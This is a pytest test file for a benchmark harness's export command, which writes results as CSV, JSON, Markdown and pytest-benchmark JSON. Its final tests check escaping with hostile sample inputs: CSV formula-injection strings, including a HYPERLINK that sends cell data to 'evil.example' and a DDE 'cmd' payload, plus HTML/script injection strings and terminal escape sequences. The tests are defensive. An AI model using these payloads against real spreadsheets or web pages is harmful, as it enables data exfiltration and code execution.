"""`harness export`: CSV, JSON, Markdown and pytest-benchmark JSON from a synthetic store."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from harness.case import Case
from harness.cli import build_parser, main
from harness.errors import HarnessError
from harness.export import FORMATS, benchmark_stats, export
from harness.store import ResultStore
from tests.records import COLUMNS, make_record

COLS = COLUMNS | {"latency_block": "int64", "latency_timer": "string", "latency_warmup_iters": "int64"}
ENV = {"env_hostname": "bench-host", "env_git_sha": "abc123+dirty", "env_python": "3.11.7", "env_cpu_count": 2,
       "env_platform": "Linux-6.1.0-13-amd64-x86_64-with-glibc2.36"}
SAMPLES_A = [10.0, 11.0, 12.5, 9.5, 10.2, 30.0, 10.4]  # ms per batch
SAMPLES_B = [4.0, 4.2, 3.9, 4.1, 4.4, 4.0]
PIPE = Case("mob|net", batch=4)  # a label with a Markdown table separator


def _timed(samples, **values):
    return {"latency_ms_samples": samples, "latency_ms_median": float(np.median(samples)),
            "latency_ms_iqr": 0.5, "latency_block": 2, "latency_timer": "perf_counter", "latency_warmup_iters": 3,
            **ENV, **values}


@pytest.fixture
def store(tmp_path):
    """Two suites: alpha (an ok resnet18 with samples, a failed tiny_cnn); beta (mob|net in two runs)."""
    store = ResultStore(tmp_path / "results")
    protocol = json.dumps({"latency": {"min_repeats": 5, "max_time_s": 2.0, "block_min_ms": 1.0}})
    records = [
        make_record(Case("resnet18"), suite="alpha", params=11_689_512, macs=1_814_000_000,
                    throughput_samples_per_s=95.2, **_timed(SAMPLES_A, protocol_json=protocol)),
        make_record(Case("tiny_cnn", batch=8), suite="alpha", status="failed", minutes=1,
                    error="RuntimeError: boom\nTraceback tail", **ENV),
        make_record(PIPE, suite="beta", run_id="run-a", minutes=2, **_timed(SAMPLES_B)),
        make_record(PIPE, suite="beta", run_id="run-b", minutes=3, **_timed([s * 0.9 for s in SAMPLES_B])),
    ]
    for record in records:
        store.append(record, COLS)
    return store


def test_csv_round_trips_through_pandas(store):
    frame = pd.read_csv(io.StringIO(export(store.read(), "csv")))
    assert len(frame) == 3  # latest per case: beta's run-a record is superseded by run-b
    assert {"run_id", "suite", "case_id", "label", "status", "error", "model", "batch", "params", "macs",
            "latency_ms_median", "latency_ms_samples", "env_hostname"} <= set(frame.columns)
    resnet = frame[frame["model"] == "resnet18"].iloc[0]
    assert json.loads(resnet["latency_ms_samples"]) == SAMPLES_A
    assert resnet["params"] == 11_689_512
    assert pd.to_datetime(frame["timestamp_utc"]).dt.tz is not None
    assert "T" in frame["timestamp_utc"].iloc[0] and frame["timestamp_utc"].iloc[0].endswith("+00:00")
    assert frame.set_index("model").loc["tiny_cnn", "status"] == "failed"
    csv_text = export(store.read(), "csv")
    assert "11689512," in csv_text and "11689512.0" not in csv_text  # counts with nulls stay integers


def test_json_is_a_list_of_records_with_samples(store):
    records = json.loads(export(store.read(), "json"))
    assert len(records) == 3
    by_model = {r["model"]: r for r in records}
    assert by_model["resnet18"]["latency_ms_samples"] == SAMPLES_A
    assert by_model["resnet18"]["params"] == 11_689_512 and isinstance(by_model["resnet18"]["params"], int)
    assert by_model["tiny_cnn"]["latency_ms_median"] is None and by_model["tiny_cnn"]["latency_ms_samples"] is None
    assert by_model["resnet18"]["timestamp_utc"] == "2026-11-23T00:00:00+00:00"
    assert len(json.loads(export(store.read(), "json", latest=False))) == 4


def test_markdown_has_units_one_row_per_case_and_escapes_pipes(store):
    text = export(store.read(), "markdown")
    alpha, beta = text.split("## beta")
    header = next(line for line in alpha.splitlines() if line.startswith("| Label"))
    assert header.startswith("| Label | Model | Batch | Input (px) | Device | Dtype | Status |")
    assert "Params (M)" in header and "Latency median (ms)" in header and "MACs (G)" in header
    assert "Top-1 (%)" not in header  # no value anywhere: hidden
    rows = [line for line in alpha.splitlines() if line.startswith("| ") and line != header]
    assert len(rows) == 3  # separator + resnet18 + tiny_cnn
    assert "| 11.69 |" in rows[1] and "| 1.814 |" in rows[1]
    assert "- tiny_cnn b8 224px cpu fp32 — failed: RuntimeError: boom" in alpha
    assert "mob\\|net b4 224px cpu fp32" in beta and "| mob\\|net |" in beta
    assert len([line for line in beta.splitlines() if line.startswith("| mob")]) == 1
    every = export(store.read(), "markdown", latest=False).split("## beta")[1]
    assert "| Run |" in every and len([line for line in every.splitlines() if line.startswith("| mob")]) == 2


def test_pytest_benchmark_stats_are_the_samples_in_seconds(store):
    doc = json.loads(export(store.read(), "pytest-benchmark"))
    assert set(doc) == {"machine_info", "commit_info", "benchmarks", "datetime", "version"}
    assert [b["name"] for b in doc["benchmarks"]] == ["resnet18 b1 224px cpu fp32", "mob|net b4 224px cpu fp32"]
    bench = doc["benchmarks"][0]
    assert bench["group"] == "alpha" and bench["fullname"] == "alpha::resnet18 b1 224px cpu fp32"
    assert bench["params"]["model"] == "resnet18" and bench["params"]["model_kwargs"] == {}
    assert bench["extra_info"]["batch"] == 1 and bench["extra_info"]["throughput_samples_per_s"] == 95.2
    assert bench["options"]["min_rounds"] == 5 and bench["options"]["timer"] == "perf_counter"
    stats, seconds = bench["stats"], np.array(SAMPLES_A) / 1e3
    assert stats["data"] == pytest.approx(seconds.tolist(), rel=1e-12)
    assert stats["rounds"] == len(seconds) and stats["iterations"] == 2
    for key, expected in {"min": seconds.min(), "max": seconds.max(), "mean": seconds.mean(),
                          "median": np.median(seconds), "stddev": seconds.std(ddof=1), "total": seconds.sum(),
                          "ops": len(seconds) / seconds.sum()}.items():
        assert stats[key] == pytest.approx(expected, rel=1e-12), key
    assert doc["machine_info"]["node"] == "bench-host" and doc["machine_info"]["machine"] == "x86_64"
    assert doc["machine_info"]["system"] == "Linux" and doc["machine_info"]["release"] == "6.1.0-13-amd64"
    assert doc["commit_info"] == {"id": "abc123", "time": None, "author_time": None, "dirty": True,
                                  "project": "harness", "branch": "(unknown)"}


@pytest.mark.parametrize("samples", [SAMPLES_A, SAMPLES_B, [1.0], [1.0, 2.0], [3.0, 1.0, 2.0, 9.0, 4.0]])
def test_benchmark_stats_match_pytest_benchmark_own_stats(samples):
    from pytest_benchmark.stats import Stats

    theirs = Stats()
    for value in samples:
        theirs.update(value)
    assert benchmark_stats(samples) == theirs.as_dict()


def _compare_command() -> list[str]:
    script = Path(sys.executable).with_name("pytest-benchmark")
    return [str(script)] if script.exists() else [shutil.which("pytest-benchmark") or "pytest-benchmark"]


def test_pytest_benchmark_compare_accepts_two_exports(store, tmp_path):
    frame = store.read()
    for run in ("run-a", "run-b"):
        rows = frame[(frame["run_id"] == run) | (frame["suite"] == "alpha")]
        (tmp_path / f"{run}.json").write_text(export(rows, "pytest-benchmark"))
    result = subprocess.run([*_compare_command(), "compare", "--columns", "min,median,mean,rounds,iterations",
                             str(tmp_path / "run-a.json"), str(tmp_path / "run-b.json")],
                            cwd=tmp_path, capture_output=True, text=True, timeout=60)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "Failed to load" not in output
    assert output.count("mob|net b4 224px cpu fp32") == 2 and output.count("resnet18 b1 224px cpu fp32") == 2
    assert "alpha" in output and "beta" in output


def test_unknown_format_lists_the_formats(store):
    with pytest.raises(HarnessError, match="csv, json, markdown, pytest-benchmark"):
        export(store.read(), "xml")
    for fmt in FORMATS:  # the command offers every format (its choices are spelled out to keep startup light)
        assert build_parser().parse_args(["export", "--format", fmt]).format == fmt


def test_cli_filters_and_writes_the_file(store, tmp_path, capsys):
    root = str(store.root)
    assert main(["export", "--results", root, "--format", "json", "--suite", "beta", "--all"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert {r["run_id"] for r in records} == {"run-a", "run-b"} and {r["suite"] for r in records} == {"beta"}
    assert main(["export", "--results", root, "--format", "json", "--run", "run-a"]) == 0
    assert [(r["suite"], r["run_id"]) for r in json.loads(capsys.readouterr().out)] == [("alpha", "run-a")] * 2 + [
        ("beta", "run-a")]
    assert main(["export", "--results", root, "--format", "csv", "--run", "run-b", "--run", "run-a"]) == 0
    assert len(pd.read_csv(io.StringIO(capsys.readouterr().out))) == 3  # latest per case of both runs
    out = tmp_path / "sub" / "bench.json"
    assert main(["export", "--results", root, "--format", "pytest-benchmark", "--out", str(out)]) == 0
    assert capsys.readouterr().out == ""
    assert len(json.loads(out.read_text())["benchmarks"]) == 2
    assert [p.name for p in out.parent.iterdir()] == ["bench.json"]  # no temporary file left


def test_cli_exit_2_when_nothing_to_export(store, tmp_path, capsys):
    assert main(["export", "--results", str(tmp_path / "nothing")]) == 2
    assert "no results" in capsys.readouterr().err
    assert main(["export", "--results", str(store.root), "--suite", "gamma"]) == 2
    assert "alpha, beta" in capsys.readouterr().err
    assert main(["export", "--results", str(store.root), "--run", "run-z"]) == 2
    assert "no record matches --run run-z; there are: run-a, run-b" in capsys.readouterr().err
    assert main(["export", "--results", str(store.root), "--suite", "alpha", "--run", "run-b"]) == 2
    assert "no record matches --run run-b of suite alpha; there are: run-a" in capsys.readouterr().err
    assert main(["export", "--results", str(store.root), "--format", "pytest-benchmark", "--run", "run-a",
                 "--suite", "alpha"]) == 0
    capsys.readouterr()
    failed_only = ResultStore(tmp_path / "failed")
    failed_only.append(make_record(Case("tiny_cnn"), status="failed", error="boom"), COLS)
    assert main(["export", "--results", str(failed_only.root), "--format", "pytest-benchmark"]) == 2
    assert "no ok record with latency samples" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:
        main(["export", "--results", str(store.root), "--format", "xml"])
    assert exc.value.code == 2


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
            "\r=1+1"]


def test_csv_neutralises_formula_text_but_keeps_numbers(tmp_path):
    store = ResultStore(tmp_path / "results")
    for i, payload in enumerate(FORMULAS):
        store.append(make_record(Case("tiny_cnn", batch=i + 1), suite="=1+1", status="failed", error=payload,
                                 env_hostname=payload, latency_ms_median=-1.5, macs=-7), COLS)
    rows = list(csv.DictReader(io.StringIO(export(store.read(), "csv"))))
    assert [r["error"] for r in rows] == ["'" + p for p in FORMULAS[:-1]] + ["\\x0d=1+1"]  # a CR is shown
    assert {r["env_hostname"] for r in rows} == {r["error"] for r in rows}
    assert {r["suite"] for r in rows} == {"'=1+1"}
    assert {r["latency_ms_median"] for r in rows} == {"-1.5"} and {r["macs"] for r in rows} == {"-7"}
    assert rows[0]["label"] == "tiny_cnn b1 224px cpu fp32"  # plain text untouched


def test_csv_shows_control_characters(tmp_path):
    store = ResultStore(tmp_path / "results")
    store.append(make_record(Case("tiny_cnn"), status="failed", error="boom \x1b[2J\x07 end\nline 2"), COLS)
    text = export(store.read(), "csv")
    assert "\x1b" not in text and "\x07" not in text
    assert next(csv.DictReader(io.StringIO(text)))["error"] == "boom \\x1b[2J\\x07 end\nline 2"


def test_markdown_escapes_html_and_table_breakers_everywhere(tmp_path):
    store = ResultStore(tmp_path / "results")
    evil = Case("<img src=x onerror=alert(1)>|x", batch=2)
    store.append(make_record(evil, suite="<b>s&p</b>", status="failed",
                             error="<script>alert(1)</script> | a\nsecond line \x1b[31m"), COLS)
    text = export(store.read(), "markdown")
    assert "<" not in text and ">" not in text and "\x1b" not in text
    assert text.startswith("## &lt;b&gt;s&amp;p&lt;/b&gt;\n")
    row = next(line for line in text.splitlines() if line.startswith("| &lt;img"))
    assert row.startswith("| &lt;img src=x onerror=alert(1)&gt;\\|x b2 224px cpu fp32 | &lt;img src=x "
                          "onerror=alert(1)&gt;\\|x | 2 |")
    assert row.count(" | ") == text.splitlines()[2].count(" | ")  # no extra column
    assert ("- &lt;img src=x onerror=alert(1)&gt;\\|x b2 224px cpu fp32 — failed: &lt;script&gt;alert(1)"
            "&lt;/script&gt; \\| a") in text.splitlines()


def test_json_escapes_every_control_character_and_reads_back_the_same(tmp_path):
    store = ResultStore(tmp_path / "results")
    error = "boom \x1b[6n \x9b6n \x7f \u202eevil\u202c end\nline 2"
    store.append(make_record(Case("tiny_cnn"), status="failed", error=error), COLS)
    text = export(store.read(), "json")
    assert not any(ch in text for ch in "\x1b\x9b\x7f\u202e\u202c")
    assert "\\u009b6n" in text and "\\u202eevil" in text
    assert json.loads(text)[0]["error"] == error
